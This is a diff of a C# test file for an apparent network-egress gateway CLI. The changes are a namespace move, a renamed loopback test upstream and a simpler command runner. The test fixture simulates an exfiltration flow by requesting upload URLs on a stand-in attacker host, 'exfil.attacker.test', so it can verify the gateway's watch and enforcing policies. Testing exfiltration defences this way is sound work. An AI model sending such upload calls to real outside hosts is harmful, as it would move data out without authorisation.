@@ -1,10 +1,9 @@
 using System.IO.Compression;
 using System.Text.Json;
 using System.Text.Json.Nodes;
-using Corral.Cli;
-using Corral.Gateway.Tests.Support;
+using Corral.Testing;
 
-namespace Corral.Gateway.Tests;
+namespace Corral.Cli.Tests;
 
 /// <summary>
 /// <c>corral replay</c> and <c>corral explain --flows</c> on flow logs written by the real gateway: the Foundry pack in
@@ -16,9 +15,9 @@ public sealed class ReplayCommandTests
     private static readonly string[] StandIn = ["--public-standin", "127.0.0.0/8"];
 
     /// <summary>A gateway on the Foundry pack in watch mode, after one platform flow and one exfiltration flow; the enforcing pack beside it.</summary>
-    private static async Task<(GatewayHarness Gateway, string EnforcingPolicy, TestUpstream Upstream)> WatchedTrafficAsync()
+    private static async Task<(GatewayHarness Gateway, string EnforcingPolicy, LoopbackUpstream Upstream)> WatchedTrafficAsync()
     {
-        var upstream = TestUpstream.Start(443, "mcr.microsoft.com", "exfil.attacker.test");
+        var upstream = LoopbackUpstream.Start(443, "mcr.microsoft.com", "exfil.attacker.test");
         var gw = GatewayHarness.Foundry($"{upstream.EndPoint.Address} mcr.microsoft.com exfil.attacker.test\n", watch: true);
         foreach (var url in (string[])["https://mcr.microsoft.com/v2/", "https://exfil.attacker.test/upload", "https://exfil.attacker.test/upload2"])
         {
@@ -35,9 +34,7 @@ public sealed class ReplayCommandTests
 
     private static int Run(out string stdout, out string stderr, params string[] args)
     {
-        var (o, e) = (new StringWriter(), new StringWriter());
-        var code = CorralCommand.Run(args, o, e);
-        (stdout, stderr) = (o.ToString(), e.ToString());
+        (var code, stdout, stderr) = CorralProgram.RunInProcess(args);
         return code;
     }
 
